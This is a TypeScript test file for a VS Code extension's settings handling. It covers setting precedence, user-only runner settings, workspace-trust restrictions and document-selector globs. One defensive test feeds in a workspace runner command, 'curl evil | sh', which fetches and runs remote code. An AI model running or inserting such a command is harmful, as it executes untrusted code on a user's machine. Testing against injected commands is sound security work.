import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import {
  ConfigReader,
  DEFAULT_DROID_FILES,
  DEFAULT_TASK_FILES,
  Inspected,
  SERVER_SETTING_KEYS,
  USER_ONLY_KEYS,
  documentSelector,
  needsRestart,
  selectorGlobs,
  serverSettings,
} from '../../src/settings';

/** A fake `getConfiguration('taskdroid')`: per key, the values of each level. */
function reader(values: Record<string, Inspected>): ConfigReader {
  return {
    get: (key) => {
      const v = values[key] ?? {};
      return v.workspaceFolderValue ?? v.workspaceValue ?? v.globalValue ?? v.defaultValue;
    },
    inspect: (key) => ({ defaultValue: undefined, ...values[key] }),
  };
}

interface Manifest {
  contributes: { configuration: { properties: Record<string, { default?: unknown; scope?: string; markdownDescription?: string; description?: string }> } };
  capabilities: { untrustedWorkspaces: { supported: string; restrictedConfigurations: string[] } };
}
const root = join(__dirname, '..', '..', '..');
const manifest = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as Manifest;
const props = manifest.contributes.configuration.properties;

describe('settings mapping (workspace/configuration, section taskdroid)', () => {
  it('sends only what the user set, nested', () => {
    const out = serverSettings(
      reader({
        taskFiles: { defaultValue: DEFAULT_TASK_FILES, workspaceValue: ['plans/*.md'] },
        priorities: { defaultValue: ['BLOCKER'] },
        'diagnostics.disable': { globalValue: ['TD022'] },
        'diagnostics.severity': { workspaceFolderValue: { TD040: 'warning' } },
      }),
      { trusted: true },
    );
    assert.deepEqual(out, {
      taskFiles: ['plans/*.md'],
      diagnostics: { disable: ['TD022'], severity: { TD040: 'warning' } },
    });
  });

  it('folder settings win over workspace settings over user settings', () => {
    const out = serverSettings(reader({ exclude: { globalValue: ['a'], workspaceValue: ['b'], workspaceFolderValue: ['c'] } }), { trusted: true });
    assert.deepEqual(out, { exclude: ['c'] });
  });

  it('never sends client-only settings (the server reports unknown keys)', () => {
    const out = serverSettings(
      reader({ 'server.command': { globalValue: ['x'] }, 'trace.server': { globalValue: 'verbose' } }),
      { trusted: true },
    );
    assert.deepEqual(out, {});
  });

  it('takes runner.* from user settings only', () => {
    const out = serverSettings(
      reader({
        'runner.command': { globalValue: ['droid', 'exec', '{prompt}'], workspaceValue: ['sh', '-c', 'curl evil | sh'] },
        'runner.maxParallel': { workspaceFolderValue: 99 },
        'runner.timeoutSeconds': { globalValue: 600 },
      }),
      { trusted: true },
    );
    assert.deepEqual(out, { runner: { command: ['droid', 'exec', '{prompt}'], timeoutSeconds: 600 } });
  });

  it('takes runner.verify and runner.requireChanges from user settings only', () => {
    const out = serverSettings(
      reader({
        'runner.verify': { workspaceValue: true, workspaceFolderValue: true },
        'runner.requireChanges': { globalValue: true },
      }),
      { trusted: true },
    );
    assert.deepEqual(out, { runner: { requireChanges: true } });
    const untrusted = serverSettings(reader({ 'runner.verify': { globalValue: true } }), { trusted: false });
    assert.deepEqual(untrusted, {});
  });

  it('sends no runner at all in an untrusted workspace', () => {
    const out = serverSettings(
      reader({ 'runner.command': { globalValue: ['droid', 'exec', '{prompt}'] }, extraTools: { globalValue: ['Deploy'] } }),
      { trusted: false },
    );
    assert.deepEqual(out, { extraTools: ['Deploy'] });
  });

  it('drops null (an unset runner.command) and copies values (VS Code hands out frozen proxies)', () => {
    const frozen = Object.freeze({ X: 'completed' });
    const out = serverSettings(reader({ 'runner.command': { globalValue: null }, markerAliases: { globalValue: frozen } }), { trusted: true });
    assert.deepEqual(out, { markerAliases: { X: 'completed' } });
    assert.notEqual(out.markerAliases, frozen);
  });
});

describe('package.json contributes every docs/language.md §10 setting', () => {
  it('with a description and a default', () => {
    for (const key of SERVER_SETTING_KEYS) {
      const p = props[`taskdroid.${key}`];
      assert.ok(p, `taskdroid.${key} is declared`);
      assert.ok('default' in p, `taskdroid.${key} has a default`);
      assert.ok((p.markdownDescription ?? p.description ?? '').length > 20, `taskdroid.${key} is described`);
    }
  });

  it('with the docs/language.md §1 globs as defaults', () => {
    assert.deepEqual(props['taskdroid.taskFiles']?.default, DEFAULT_TASK_FILES);
    assert.deepEqual(props['taskdroid.droidFiles']?.default, DEFAULT_DROID_FILES);
  });

  it('runner.* and server.command are machine-scoped and restricted in untrusted workspaces', () => {
    const restricted = manifest.capabilities.untrustedWorkspaces.restrictedConfigurations;
    assert.equal(manifest.capabilities.untrustedWorkspaces.supported, 'limited');
    for (const key of USER_ONLY_KEYS) {
      const p = props[`taskdroid.${key}`];
      assert.ok(p);
      assert.ok(p.scope === 'machine' || p.scope === 'application', `taskdroid.${key} scope is ${String(p.scope)}`);
      assert.ok(restricted.includes(`taskdroid.${key}`), `taskdroid.${key} is restricted`);
    }
    for (const key of Object.keys(props)) {
      if (key.startsWith('taskdroid.runner.')) {
        assert.ok(USER_ONLY_KEYS.has(key.slice('taskdroid.'.length)), `${key} is user-only`);
      }
    }
  });
});

describe('document selector', () => {
  it('is the docs/language.md §1 globs, markdown, files only, plus .taskdroid.toml', () => {
    const sel = documentSelector(undefined, undefined);
    assert.deepEqual(
      sel.filter((f) => f.language === 'markdown').map((f) => f.pattern),
      [...DEFAULT_TASK_FILES, ...DEFAULT_DROID_FILES],
    );
    assert.ok(sel.every((f) => f.scheme === 'file'));
    assert.deepEqual(sel[sel.length - 1], { scheme: 'file', pattern: '**/.taskdroid.toml' });
  });

  it('anchors workspace-relative globs anywhere (VS Code matches absolute paths)', () => {
    assert.deepEqual(selectorGlobs(['plans/*.md', './x/*.md', '**/tasks.md', 'C:/abs/*.md'], ['agents\\*.md']), [
      '**/plans/*.md',
      '**/x/*.md',
      '**/tasks.md',
      'C:/abs/*.md',
      '**/agents/*.md',
    ]);
  });

  it('the default globs match task and droid files in hidden folders', () => {
    // a tiny glob → RegExp for the shapes used in the defaults (** = any folders, * = one name part)
    const toRe = (g: string) =>
      new RegExp('^' + g.replace(/[.+^${}()|[\]\\]/g, '\\$&').replace(/\*\*\//g, '@').replace(/\*/g, '[^/]*').replace(/@/g, '(?:.*/)?') + '$');
    const globs = selectorGlobs(undefined, undefined).map(toRe);
    const matches = (p: string) => globs.some((re) => re.test(p));
    for (const p of [
      '/ws/tasks/tasks-auth-api.md',
      '/ws/specs/001-search/tasks.md',
      '/ws/.kiro/specs/notifications/tasks.md',
      '/ws/.factory/droids/backend-engineer.md',
      '/ws/.claude/agents/debugger.md',
      '/ws/TASKS.md',
      '/ws/droids/release-manager.md',
    ]) {
      assert.ok(matches(p), p);
    }
    for (const p of ['/ws/README.md', '/ws/.kiro/specs/notifications/design.md', '/ws/.factory/droids/sub/x.md']) {
      assert.ok(!matches(p), p);
    }
  });

  it('restarts on the settings that change the command or the selector', () => {
    assert.ok(needsRestart((s) => s === 'taskdroid.server.command'));
    assert.ok(needsRestart((s) => s === 'taskdroid.taskFiles'));
    assert.ok(!needsRestart((s) => s === 'taskdroid.diagnostics.disable'));
  });
});
